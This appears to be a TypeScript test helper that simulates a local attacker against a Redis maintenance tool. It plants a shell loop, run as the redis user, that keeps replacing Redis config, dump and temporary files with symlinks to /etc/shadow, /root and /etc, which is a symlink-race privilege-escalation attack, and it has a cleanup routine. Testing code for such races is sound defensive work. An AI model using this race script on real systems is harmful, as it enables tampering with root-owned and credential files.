import type { Prng } from '../../src/lab/prng.js';
import type { Machines } from './shapes.js';

/** As the user redis: each file of its own, and every temporary name beside it, turns into a link and back, without end. */
const FLIP = `trap 'ended=1' TERM
ended=
flip() {
  cd "$1" || return
  for each in .*redis-runbook* .redis-runbook-*/*/.*redis-runbook*; do
    [ -f "$each" ] && [ ! -L "$each" ] && rm -f "$each" && ln -s "$3" "$each"
  done
  [ -f "$2" ] || [ -e "$2.mine" ] || return
  mv "$2" "$2.mine"; ln -sf "$3" "$2"; rm -f "$2"; mv -T "$2.mine" "$2"
}
until [ -n "$ended" ]; do
  while read -r directory file target; do flip "$directory" "$file" "$target"; done < "$1"
  sleep 0.0$(($$ % 5 + 1))
done 2> /dev/null`;

/** Starts the flipping on a machine; which file leads where is drawn. Resolves with its pid there. */
export async function startFlipping(machines: Machines, name: string, draw: Prng): Promise<string> {
  const files = ['/var/lib/redis dump.rdb', '/etc/redis redis.conf', '/etc/redis sentinel.conf'];
  const targets = ['/root/canary', '/etc/shadow', '/root', '/etc'];
  const lines = files.flatMap((file) => targets.filter(() => draw.chance(0.6)).map((target) => `${file} ${target}`));
  const plan = lines.length > 0 ? lines : [`${files[1]} /etc/shadow`];
  const script = `cat > /var/lib/redis/plan; cat > /var/lib/redis/flip.sh << 'END'\n${FLIP}\nEND
chown redis: /var/lib/redis/plan /var/lib/redis/flip.sh
setpriv --reuid redis --regid redis --clear-groups sh /var/lib/redis/flip.sh /var/lib/redis/plan < /dev/null > /dev/null 2>&1 &
echo $!`;
  const started = await machines.asRoot(name, script, { input: `${plan.join('\n')}\n` });
  return started.stdout.trim();
}

/**
 * Ends the flipping; its last round puts every file back. A link that it planted under a temporary name, a moment after that
 * was renamed or removed, is the attacker's own and goes with him.
 */
export async function stopFlipping(machines: Machines, name: string, pid: string): Promise<void> {
  const stopped = await machines.asRoot(
    name,
    `kill ${pid}; n=0; while [ -d /proc/${pid} ] && [ $n -lt 100 ]; do sleep 0.1; n=$((n+1)); done
     cd /etc/redis; for f in redis.conf sentinel.conf; do [ -f $f.mine ] && mv -T $f.mine $f; done
     cd /var/lib/redis; [ -f dump.rdb.mine ] && mv -T dump.rdb.mine dump.rdb; rm -f plan flip.sh
     find /etc/redis /var/lib/redis -type l -name '.*redis-runbook*' -delete`,
  );
  if (stopped.status !== 0) throw new Error(stopped.stderr);
}
